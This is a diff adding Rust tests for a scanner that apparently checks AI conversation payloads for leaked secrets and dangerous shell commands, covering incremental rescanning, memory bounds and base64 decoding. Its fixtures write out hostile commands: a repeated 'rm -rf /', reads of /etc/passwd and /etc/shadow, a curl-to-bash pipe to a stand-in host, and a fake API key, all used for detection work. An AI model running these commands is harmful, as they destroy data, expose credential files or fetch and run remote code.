@@ -1,0 +1,259 @@
+//! Bodies that come again: what is passed over, and that nothing is missed by it.
+
+use std::sync::Arc;
+
+use proptest::prelude::*;
+use proptest::sample::{Index, select};
+
+use super::tests::{RULES, Seen, key, scan_pieces, scanner};
+use super::*;
+use crate::finding::Fingerprint;
+use crate::limits::{CLEAN_BLOCK_MAX_BYTES, CLEAN_BLOCKS_MAX, SCAN_WINDOW_MAX_BYTES};
+
+/// A message of a conversation: prose and code, with escapes.
+fn message(number: u32) -> String {
+    let words: String =
+        (0..90).map(|word| format!("w{} ", number.wrapping_mul(31) ^ word)).collect();
+    format!(
+        r#"{{"role":"user","content":"Step {number}: {words}\n\n```\nfn f{number}() -> \"s\" {{ {number} }}\n```\u00e9"}}"#
+    )
+}
+
+fn conversation(messages: impl Iterator<Item = String>) -> String {
+    let messages: Vec<_> = messages.collect();
+    format!(
+        r#"{{"model":"m","messages":[{}],"system":"{}"}}"#,
+        messages.join(","),
+        "be good. ".repeat(900)
+    )
+}
+
+/// What is found in a body, and how many bytes the engine was given for it.
+fn scanned(scanner: &Scanner, body: &str) -> (Seen, u64) {
+    let before = scanner.engine_bytes();
+    let seen = scan_pieces(scanner, &[body.as_bytes()]);
+    (seen, scanner.engine_bytes() - before)
+}
+
+/// What is found where nothing is remembered.
+fn found_anew(body: &[u8]) -> Vec<&'static str> {
+    thread_local! {
+        static ANEW: Scanner = scanner(SCAN_WINDOW_MAX_BYTES).without_memory();
+    }
+    ANEW.with(|scanner| scan_pieces(scanner, &[body]).names())
+}
+
+#[test]
+fn a_conversation_that_goes_on_is_scanned_from_where_it_is_new() {
+    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+    let mut costs = Vec::new();
+    for count in 100..110 {
+        let body = conversation((0..count).map(message));
+        let (seen, bytes) = scanned(&scanner, &body);
+        assert_eq!(seen.names(), found_anew(body.as_bytes()));
+        costs.push(bytes as f64 / body.len() as f64);
+    }
+    assert!(costs[0] >= 0.9, "{costs:?}");
+    assert!(costs[3..].iter().all(|cost| *cost < 0.3), "{costs:?}");
+}
+
+#[test]
+fn text_that_is_no_json_is_passed_over_too() {
+    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+    let text: String = (0..3000).map(|line| format!("let line_{line} = {line};\n")).collect();
+    let costs: Vec<_> = (0..3).map(|_| scanned(&scanner, &text).1 as usize).collect();
+    assert!(costs[1] >= text.len() && costs[2] < 3 * CLEAN_BLOCK_MAX_BYTES, "{costs:?}");
+}
+
+#[test]
+fn what_has_a_finding_is_told_of_each_time() {
+    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+    let secret = format!("sk-ant-{}", key(7));
+    let leak = |number: u32| match number {
+        20 => message(number).replace("Step", &secret),
+        _ => message(number),
+    };
+    let body = conversation((0..40).map(leak));
+    for _ in 0..4 {
+        let (seen, bytes) = scanned(&scanner, &body);
+        assert_eq!(seen.names(), ["ai_api_key"]);
+        assert!(bytes > 0);
+    }
+}
+
+#[test]
+fn a_flood_is_bounded_by_what_is_read_at_once() {
+    let flood = "rm -rf / ".repeat(100_000);
+    let forgetful = scanner(SCAN_WINDOW_MAX_BYTES).without_memory();
+    let (once, _) = scanned(&forgetful, &flood);
+    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+    for _ in 0..4 {
+        let (seen, _) = scanned(&scanner, &flood);
+        // A block that is tried, what is before and behind it, and the last one, which is not whole.
+        assert!(seen.found.len() <= 4 * once.found.len(), "{}", seen.found.len());
+    }
+}
+
+/// A match that was told and comes again within a body is not told again: where it stands alone it is.
+#[test]
+fn a_block_with_a_match_that_was_told_before_is_not_clean() {
+    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+    let leak = message(3).replace("Step", "cat /etc/passwd # ");
+    let twice = conversation((0..60).map(|number| match number {
+        10 | 40 => leak.clone(),
+        _ => message(number),
+    }));
+    let once = conversation((0..60).map(|number| match number {
+        40 => leak.clone(),
+        _ => message(number),
+    }));
+    for _ in 0..3 {
+        scanned(&scanner, &twice);
+    }
+    assert_eq!(scanned(&scanner, &once).0.names(), ["unix_sensitive"]);
+}
+
+#[test]
+fn a_match_over_the_end_of_what_is_passed_over_is_found() {
+    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+    let line = "a line that is as long as any other, and says nothing at all\n";
+    for cut in 0..24 {
+        // Blocks end with lines; the first of these ends within a command.
+        let clean = format!("{}{}", line.repeat(200), "x".repeat(CLEAN_BLOCK_MAX_BYTES - 8 - cut));
+        let half = format!("{clean} curl -s http://e.example/");
+        for _ in 0..3 {
+            scanned(&scanner, &half);
+        }
+        let whole = format!("{half}x | bash\n{}", line.repeat(100));
+        let (seen, _) = scanned(&scanner, &whole);
+        assert_eq!(seen.names(), ["pipe_to_shell"], "{cut}");
+    }
+}
+
+#[test]
+fn a_long_encoded_run_is_decoded_however_often_it_came() {
+    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+    let encode = |text: &str| data_encoding::BASE64.encode(text.as_bytes());
+    let clean = "nothing to see in this line\n".repeat(2000);
+    for _ in 0..3 {
+        scanned(&scanner, &format!(r#"{{"data":"{}"}}"#, encode(&clean)));
+    }
+    let leak = format!("{clean}cat /etc/shadow\n{clean}");
+    let (seen, _) = scanned(&scanner, &format!(r#"{{"data":"{}"}}"#, encode(&leak)));
+    assert_eq!(seen.names(), ["unix_sensitive"]);
+}
+
+#[test]
+fn known_values_are_found_in_what_was_clean_before_they_were_watched_for() {
+    /// Tells of known values, or does not.
+    struct Watching(bool, usize);
+    impl MatchSink for Watching {
+        fn wants(&mut self, _: &Match<'_>) -> bool {
+            false
+        }
+        fn found(&mut self, _: &Match<'_>, _: String) {}
+        fn watches(&self) -> bool {
+            self.0
+        }
+        fn wants_known(&mut self, _: &KnownMatch<'_>) -> bool {
+            self.1 += 1;
+            false
+        }
+    }
+    let value = b"correct horse battery staple".to_vec();
+    let named = vec![NamedValue { name: "HORSE".into(), bytes: zeroize::Zeroizing::new(value) }];
+    let known = KnownValues::new(named, |_| Fingerprint([0; 8])).unwrap();
+    let database = Arc::new(Database::compile(&RULES).unwrap());
+    let scanner =
+        Scanner::knowing(&database, SCAN_WINDOW_MAX_BYTES, Some(Arc::new(known))).unwrap();
+    let body = conversation((0..40).map(|number| match number {
+        20 => message(number).replace("Step", "correct horse battery staple"),
+        _ => message(number),
+    }));
+    let count = |watches: bool| {
+        let (mut sink, mut stream) = (Watching(watches, 0), scanner.open());
+        stream.feed(PaddedBuffer::new().fill(body.as_bytes()), &mut sink);
+        stream.finish(&mut sink);
+        sink.1
+    };
+    assert_eq!([false, false, false, true, true, true].map(count), [0, 0, 0, 1, 1, 1]);
+}
+
+#[test]
+fn the_memory_is_bounded() {
+    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+    let mut text = String::new();
+    for line in 0..CLEAN_BLOCKS_MAX * 5 {
+        text.push_str(&format!("let a_line_with_a_number = {line}; // and some words more\n"));
+        if text.len() > 1 << 20 {
+            for _ in 0..2 {
+                assert_eq!(scanned(&scanner, &text).0.names(), [""; 0]);
+            }
+            text.clear();
+        }
+    }
+    let memory = scanner.core.clean_blocks.take().unwrap();
+    assert_eq!(memory.len(), CLEAN_BLOCKS_MAX);
+}
+
+/// Something that a rule finds, as it stands in a string of JSON.
+fn leak() -> impl Strategy<Value = String> {
+    let examples = RULES.iter().flat_map(|rule| rule.examples.clone()).collect::<Vec<_>>();
+    select(examples).prop_map(|example| {
+        let quoted = serde_json::to_string(&example).unwrap();
+        quoted[1..quoted.len() - 1].to_owned()
+    })
+}
+
+/// Where a body is cut: reads of any length.
+fn pieces<'a>(body: &'a [u8], cuts: &[Index]) -> Vec<&'a [u8]> {
+    let mut ends: Vec<_> = cuts.iter().map(|cut| cut.index(body.len())).collect();
+    ends.push(body.len());
+    ends.sort_unstable();
+    let mut from = 0;
+    ends.into_iter()
+        .map(|end| {
+            let piece = &body[from..end];
+            from = end;
+            piece
+        })
+        .collect()
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(48))]
+
+    #[test]
+    fn what_is_new_is_found_wherever_it_stands_and_however_it_arrives(
+        leak in leak(),
+        (message_at, at) in (0..40_u32, any::<Index>()),
+        cuts in proptest::collection::vec(any::<Index>(), 0..5),
+        dropped in 0..40_u32,
+    ) {
+        let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+        let clean = conversation((0..40).map(message));
+        for _ in 0..3 {
+            scan_pieces(&scanner, &pieces(clean.as_bytes(), &cuts));
+        }
+        let altered = |number: u32| {
+            let text = message(number);
+            if number != message_at {
+                return text;
+            }
+            // Between the words of its text.
+            let words: Vec<_> = text.match_indices(" w").map(|(place, _)| place).collect();
+            let place = words[at.index(words.len())];
+            format!("{} {leak}{}", &text[..place], &text[place..])
+        };
+        let bodies = [
+            conversation((0..40).map(altered)),
+            conversation((0..40).filter(|number| *number != dropped).map(altered)),
+        ];
+        for body in bodies {
+            for _ in 0..3 {
+                let seen = scan_pieces(&scanner, &pieces(body.as_bytes(), &cuts));
+                prop_assert_eq!(seen.names(), found_anew(body.as_bytes()));
+            }
+        }
+    }
+}
